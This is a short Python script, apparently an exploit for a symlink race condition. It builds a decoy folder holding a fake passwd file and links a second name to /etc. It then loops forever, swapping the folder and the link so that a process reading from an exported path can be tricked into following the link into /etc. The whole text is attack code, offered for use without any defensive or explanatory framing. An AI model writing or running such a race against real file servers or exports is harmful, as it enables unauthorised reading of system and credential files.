"""Swaps a folder for a link out of the export, and back, as fast as it can, while somebody reads."""

import os

os.makedirs("race/real", exist_ok=True)
open("race/real/passwd", "w").write("ours")
os.symlink("/etc", "race/link")
while True:
    os.rename("race/real", "race/kept")
    os.rename("race/link", "race/real")
    os.rename("race/real", "race/link")
    os.rename("race/kept", "race/real")
